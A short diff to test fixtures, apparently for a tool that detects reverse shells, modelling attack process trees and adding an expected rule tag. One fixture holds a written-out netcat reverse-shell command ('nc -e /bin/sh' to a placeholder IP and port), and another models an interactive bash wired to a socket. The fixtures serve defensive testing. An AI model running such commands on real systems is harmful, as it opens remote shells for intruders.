@@ -8,7 +8,8 @@ extension Fixtures {
                      Actor(Proc("/usr/bin/bash", ["bash", "-i"], uid: 998),
                            in: Trees.unit("app.service", Proc("/opt/app/bin/server", ["/opt/app/bin/server", "--listen", ":8080"], uid: 998))
                                 .spawning(Proc("/usr/bin/python3.12", ["python3", "-c", "exec(input())"], uid: 998)))
-                        .exec(stdin: .socket, stdout: .socket, stderr: .socket)),
+                        .exec(stdin: .socket, stdout: .socket, stderr: .socket),
+                     also: ["interpreter-inline-code-spawns-shell"]),
                 Case("cron-planted job: sh with only stdin on a socket (nc -e style)",
                      Actor(Proc("/usr/bin/dash", ["sh"]), in: Trees.cronJob("/var/tmp/u").spawning(Proc.line("/usr/bin/nc.traditional", "nc -e /bin/sh 203.0.113.7 4444")))
                         .exec(stdin: .socket, stdout: .fifo)),
